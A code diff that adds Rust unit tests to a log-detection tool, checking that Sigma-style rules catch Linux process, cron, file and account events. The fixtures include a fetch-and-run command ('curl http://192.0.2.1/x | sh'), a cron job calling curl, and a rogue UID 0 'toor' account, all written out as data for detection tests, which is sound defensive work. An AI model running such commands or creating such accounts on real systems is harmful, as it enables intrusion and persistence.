@@ -26,7 +26,9 @@ pub(super) const FILES: &[(&str, &str)] = files![
 mod tests {
     use std::collections::BTreeSet;
 
-    use abate_model::rows::{ApiActivity, Authentication, HttpActivity, TimedText};
+    use abate_model::rows::{
+        AccountChange, ApiActivity, Authentication, FileActivity, HttpActivity, ProcessActivity, ScheduledJobActivity, TimedText,
+    };
     use abate_model::{Body, EntityKind, Locator, Row, ZoneCertainty};
     use serde_json::{Value, json};
 
@@ -108,6 +110,57 @@ mod tests {
     }
 
     #[test]
+    fn commands_and_jobs_are_seen_by_their_words() {
+        let rule = |id: u32, service: &str, word: &str| {
+            format!(
+                "title: {service}\nid: {id}\nlogsource:\n  product: linux\n  service: {service}\ndetection:\n  k:\n    - '{word}'\n  condition: k\n"
+            )
+        };
+        let rules = [rule(1, "sudo", "USER=root ; COMMAND=/bin/bash"), rule(2, "auth", "alice : TTY"), rule(3, "cron", "CMD (curl ")];
+        let (set, problems) = RuleSet::load(rules.into_iter().map(|yaml| ("r.yml".to_owned(), yaml)));
+        assert_eq!(problems, Vec::new());
+        let titles = |body: Body<'static>, raw: &str| -> Vec<String> {
+            set.eval(&row(body), raw.as_bytes()).into_iter().map(|hit| hit.rule.title).collect()
+        };
+        let run = ProcessActivity { command: "/bin/bash".into(), program: Some("sudo".into()), ..ProcessActivity::default() };
+        let line = "Nov 20 00:01:10 web1 sudo[4]:  alice : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/bash";
+        assert_eq!(titles(Body::Process(Box::new(run)), line), ["sudo", "auth"]);
+        let job = ScheduledJobActivity { change: "run".into(), program: Some("CROND".into()), ..ScheduledJobActivity::default() };
+        assert_eq!(titles(Body::Job(Box::new(job)), "Nov 20 00:01:10 web1 CROND[4]: (root) CMD (curl 192.0.2.1)"), ["cron"]);
+    }
+
+    #[test]
+    fn rules_for_the_start_of_processes_and_for_files_see_those_of_linux_only() {
+        let rule = |id: u32, category: &str, field: &str, value: &str| {
+            format!(
+                "title: {category}\nid: {id}\nlogsource:\n  product: linux\n  category: {category}\ndetection:\n  s:\n    {field}: '{value}'\n  condition: s\n"
+            )
+        };
+        let rules = [
+            rule(1, "process_creation", "Image|endswith", "/curl"),
+            rule(2, "process_creation", "CommandLine|contains", "| sh"),
+            rule(3, "file_event", "TargetFilename|startswith", "/etc/cron.d/"),
+        ];
+        let (set, problems) = RuleSet::load(rules.into_iter().map(|yaml| ("r.yml".to_owned(), yaml)));
+        assert_eq!(problems, Vec::new());
+        let hits = |body: Body<'static>| set.eval(&row(body), b"").len();
+        let run = |program: Option<&'static str>| {
+            Body::Process(Box::new(ProcessActivity {
+                name: Some("curl".into()),
+                command: "curl http://192.0.2.1/x | sh".into(),
+                program: program.map(Into::into),
+                ..ProcessActivity::default()
+            }))
+        };
+        assert_eq!((hits(run(Some("bash"))), hits(run(None))), (2, 0));
+        let file = |process: &'static str| {
+            let made = FileActivity { path: "/etc/cron.d/x".into(), process: Some(process.into()), ..FileActivity::default() };
+            Body::File(Box::new(made))
+        };
+        assert_eq!((hits(file("/usr/bin/bash")), hits(file("C:\\x.exe"))), (1, 0));
+    }
+
+    #[test]
     fn linux_rules_hit_and_miss_and_name_who() {
         let login = |user: &str, how: &str| {
             row(Body::Auth(Box::new(Authentication {
@@ -129,5 +182,14 @@ mod tests {
         };
         assert_eq!(titles(&line("new user: name=toor, UID=0, GID=0, home=/root"), b""), ["New user with the rights of root"]);
         assert!(titles(&line("new user: name=web, UID=1001, GID=1001, home=/home/web"), b"").is_empty());
+        let change = AccountChange {
+            program: Some("useradd".into()),
+            user: Some("toor".into()),
+            message: "new user: name=toor, UID=0, GID=0, home=/root".into(),
+            ..AccountChange::default()
+        };
+        let made = RuleSet::builtin().eval(&row(Body::Account(Box::new(change))), b"");
+        assert_eq!(made.iter().map(|h| h.rule.title.as_str()).collect::<Vec<_>>(), ["New user with the rights of root"]);
+        assert!(made[0].entities.iter().any(|e| e.kind == EntityKind::User && e.value == "toor"));
     }
 }
